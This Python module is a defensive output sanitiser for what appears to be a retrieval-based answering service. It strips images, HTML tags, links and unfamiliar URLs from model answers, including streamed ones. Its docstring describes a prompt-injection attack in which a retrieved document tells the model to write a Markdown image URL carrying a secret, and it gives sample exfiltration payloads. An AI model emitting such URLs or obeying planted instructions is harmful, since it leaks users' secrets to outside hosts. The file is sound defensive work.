"""Make generated answers inert: no image, no auto-loading HTML, no URL the documents lack.

A document can tell the model to write ``![x](https://host/?q=<secret>)``; a chat client
that renders Markdown would fetch it and carry the secret out without a click. So answers
leave the service with Markdown images and reference definitions removed, every HTML tag
removed (an allowlist of none, applied by nh3, the Ammonia sanitiser: a blacklist of
"loading" tags missed ``<div style="background:url(//host/?q=secret)">``), Markdown links
reduced to their text, and any URL that does not occur verbatim in the passages the model
was shown replaced by "[link removed]": with or without a scheme (``//host/x``,
``www.host.org``, ``data:``), since a model cannot be trusted to invent a URL and a
data-carrying one never occurs in the documents.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Sequence

import nh3

_IMAGE = re.compile(r"!\[[^\]\n]*\]\s*(\([^)\n]*\)?|\[[^\]\n]*\]?)")
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)
# Something a browser or Markdown renderer could read as markup: a tag, comment or
# declaration opening. Text without one is left exactly as generated.
_MARKUP = re.compile(r"<[A-Za-z/!?]")
# Every entity nh3 writes except the two that keep "<" and ">" from forming a tag again.
_HARMLESS_ENTITIES = {"&amp;": "&", "&quot;": '"', "&#39;": "'", "&#x27;": "'", "&nbsp;": "\u00a0"}
_LINK = re.compile(r"\[([^\]\n]*)\]\(([^)\n]*)\)")
# A URL with any scheme and "//", a scheme that needs none, protocol-relative "//host", or
# "www.host": all of them are links to a renderer.
_URL = re.compile(r"(?:\b[a-z][a-z0-9+.\-]*://|\b(?:data|javascript|vbscript|file|blob|mailto):|(?<![\w:/])//(?=[\w\-]+\.)"
                  r"|\bwww\.)[^\s<>()\[\]\"'`]*", re.IGNORECASE)
_SPACES = re.compile(r"[ \t]{2,}")
REMOVED = "[link removed]"


def sanitize_answer(text: str, passages: Sequence[str] = ()) -> str:
    """The answer with images, loading tags, links and unknown URLs neutralised."""
    known: set[str] = set()
    for passage in passages:
        known.update(m.group(0).rstrip(".,;:") for m in _URL.finditer(passage))
    text = _IMAGE.sub("", text)
    text = _REF_DEF.sub("", text)
    text = _strip_markup(text)
    text = _LINK.sub(lambda m: m.group(1), text)

    def url(m: re.Match) -> str:
        found = m.group(0).rstrip(".,;:")
        return m.group(0) if found in known else REMOVED + m.group(0)[len(found):]

    text = _URL.sub(url, text)
    return _SPACES.sub(" ", text).strip()


def _strip_markup(text: str) -> str:
    """Every tag removed (their text kept, script and style bodies dropped)."""
    if not _MARKUP.search(text):
        return text
    clean = nh3.clean(text, tags=set(), strip_comments=True)
    for entity, char in _HARMLESS_ENTITIES.items():
        clean = clean.replace(entity, char)
    return clean


class SafeStream:
    """Streams answer pieces, holding back any tail that might become an image, tag or URL.

    Emitted text is the sanitised text up to a point where no such construct is open; the
    rest follows once it closes (or at the end). Nothing unsafe is ever sent, even in part.
    """

    def __init__(self, passages: Sequence[str] = ()):
        self.passages = passages
        self.raw = ""
        self.sent = ""

    def feed(self, piece: str) -> str:
        """Add a generated piece; return what may be sent now."""
        self.raw += piece
        safe = self._safe_prefix(self.raw)
        return self._advance(sanitize_answer(safe, self.passages) if safe else "")

    def finish(self) -> str:
        """The rest, at the end of generation."""
        return self._advance(sanitize_answer(self.raw, self.passages))

    def _advance(self, clean: str) -> str:
        if not clean.startswith(self.sent):
            return ""  # a later rewrite touched sent text; the final answer carries the truth
        delta, self.sent = clean[len(self.sent):], clean
        return delta

    @staticmethod
    def _safe_prefix(text: str) -> str:
        # Whole words only (a URL is complete once whitespace follows it), and nothing from
        # a "[" or "<" that is not closed yet (a link or tag still being written).
        cut = max(text.rfind(" "), text.rfind("\n")) + 1
        for opener, closer in (("[", ")"), ("<", ">")):
            start = text.rfind(opener, 0, cut)
            if start >= 0 and closer not in text[start:cut] and not _closed_citation(text, start, cut):
                cut = start
        line = text.rfind("\n", 0, cut) + 1
        if re.match(r"\s{0,3}\[[^\]\n]*(\]:?)?\s*\S*$", text[line:cut]):
            cut = line  # maybe a reference definition ("[1]: url") still being written
        return text[:cut]


def _closed_citation(text: str, start: int, cut: int) -> bool:
    # "[2]" followed by anything but "(" is a citation marker, not a link.
    m = re.match(r"\[\d{1,3}\](?!\()", text[start:cut])
    return m is not None and start + m.end() < cut


def sanitize_stream(pieces: Iterable[str], passages: Sequence[str] = ()) -> Iterator[str]:
    """SafeStream over an iterator of pieces."""
    stream = SafeStream(passages)
    for piece in pieces:
        out = stream.feed(piece)
        if out:
            yield out
    tail = stream.finish()
    if tail:
        yield tail
